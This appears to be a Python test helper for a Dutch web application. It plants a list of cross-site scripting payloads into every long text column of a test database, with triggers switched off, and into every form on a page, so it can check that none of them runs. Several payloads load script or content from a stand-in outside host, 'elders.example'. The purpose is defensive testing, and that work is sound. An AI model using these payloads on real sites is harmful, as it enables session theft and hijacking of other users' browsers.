"""Text that wants to be more than text: what somebody would type to have it run in the browser of a colleague."""

import random
from collections.abc import Iterator

import sqlalchemy as sa
from bs4 import BeautifulSoup, Tag
from playwright.sync_api import Page

from innovatie.extensions import Base
from tests.databases import POSTGRESQL
from tests.pages import fields

MARK = "kwaad"
# What runs sets `window.kwaad`, shows a dialog, or asks another host; each of the three is seen.
PAYLOADS = [
    f"<script>window.{MARK}=1;alert(1)</script>",
    f"'\"><img src=x onerror=window.{MARK}=1>",
    f"</textarea><svg/onload=window.{MARK}=1>",
    f"</title></style><script src=//elders.example/{MARK}.js></script>",
    f'" autofocus onfocus="window.{MARK}=1" x="',
    f"javascript:window.{MARK}=1//",
    f"<a href=javascript:alert(1)>{MARK}</a>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<img src=//elders.example/{MARK}.png>",
    f"{{{{ 7 * 7 }}}}{{% raw %}}{MARK}",
    f"&lt;script&gt;{MARK}&#60;img src=x onerror=alert(1)&#62;",
    f"]]>--><!--<math><mi//xlink:href='data:x,<script>{MARK}</script>'>",
    f"<div hx-get='//elders.example/{MARK}' hx-trigger=load>{MARK}</div>",
    f"<style>@import '//elders.example/{MARK}.css'</style>",
    f"<base href=//elders.example/><form action=//elders.example/{MARK}><button>",
    f"\u202e<meta http-equiv=refresh content='0;//elders.example/{MARK}'>",
]
# Nobody types these: codes, digests, paths of our own, and addresses that a form holds to their shape.
NOT_TYPED = {
    *("person.email", "person.password_hash", "organisation_domain.domain", "organisation.isil"),
    *("notification.key", "notification.path", "notification.address", "idea.reference"),
    *("record_entry.details", "setting.key", "setting.value", "round.required_criteria"),
    *("external_identity.issuer", "external_identity.subject", "totp.secret"),
    *("passkey.credential_id", "passkey.public_key"),
}


def columns() -> Iterator[tuple[sa.Table, sa.Column]]:
    """Every column with text of people: titles, texts, names, reasons, log entries, labels that are administered."""
    for table in Base.metadata.sorted_tables:
        for column in table.columns:
            long = type(column.type) is sa.String and (column.type.length or 0) >= 200
            if long and f"{table.name}.{column.name}" not in NOT_TYPED and "key" not in column.name:
                yield table, column


def put_everywhere(url: str) -> int:
    """Into every row of every such column, past the guards that keep what was written; how many texts."""
    engine, written = sa.create_engine(url), 0
    with engine.begin() as connection:
        if POSTGRESQL:
            connection.execute(sa.text("SET session_replication_role = replica"))
        else:
            for name in connection.scalars(
                sa.text("SELECT name FROM sqlite_master WHERE type = 'trigger'")
            ).all():
                connection.execute(sa.text(f"DROP TRIGGER {name}"))
        for number, (table, column) in enumerate(columns()):
            (key, *_more) = table.primary_key.columns
            for place, row_id in enumerate(connection.scalars(sa.select(key).distinct()).all()):
                text = f"{PAYLOADS[(number + place) % len(PAYLOADS)]} {table.name}{row_id}"  # some must be unique
                change = table.update().where(key == row_id, column.is_not(None)).values({column.name: text})
                written += connection.execute(change).rowcount
    engine.dispose()
    return written


def reached(url: str) -> set[str]:
    """The columns that hold a payload."""
    engine = sa.create_engine(url)
    with engine.connect() as connection:
        found = {
            f"{table.name}.{column.name}"
            for table, column in columns()
            if connection.scalar(sa.select(sa.func.count()).where(column.contains(MARK)))
        }
    engine.dispose()
    return found


def type_into_forms(page: Page, path: str, dice: random.Random) -> int:
    """Send every form of a page with payloads in its text fields; how many were accepted."""
    html = BeautifulSoup(page.request.get(path).text(), "html5lib")
    sent = 0
    for form in html.select("main form[method=post]"):
        action = str(form.get("action") or path)
        if action.startswith(("/uitloggen", "/account", "/demo", "/inloggen", "/uitnodiging")):
            continue
        answer = page.request.post(
            action,
            form={name: values[0] for name, values in filled_in(form, dice).items() if values},
            headers={"Referer": page.url},
            max_redirects=0,
        )
        assert answer.status < 500, f"{action}: {answer.status}"
        sent += answer.status == 303
    return sent


def filled_in(form: Tag, dice: random.Random) -> dict[str, list[str]]:
    values = fields(form)
    for element in form.select("input, textarea, select"):
        name, kind = str(element.get("name", "")), str(element.get("type", "text"))
        if not name or kind in ("hidden", "submit"):
            continue
        values[name] = [_answer(form, element, name, kind, dice)]
    return values


def _answer(form: Tag, element: Tag, name: str, kind: str, dice: random.Random) -> str:
    if element.name == "select":
        return str(dice.choice([option.get("value", "") for option in element.select("option")][-3:]))
    if kind in ("radio", "checkbox"):
        return str(dice.choice([one.get("value", "on") for one in form.select(f"[name={name!r}]")]))
    usual = {
        "date": "2027-06-01",
        "datetime-local": "2027-06-01T10:00",
        "number": "3",
        "email": "a@example.nl",
    }
    if kind in usual:
        return usual[kind]
    if element.get("inputmode"):
        return "1"
    return dice.choice(PAYLOADS)[: 190 if element.name == "input" else None]
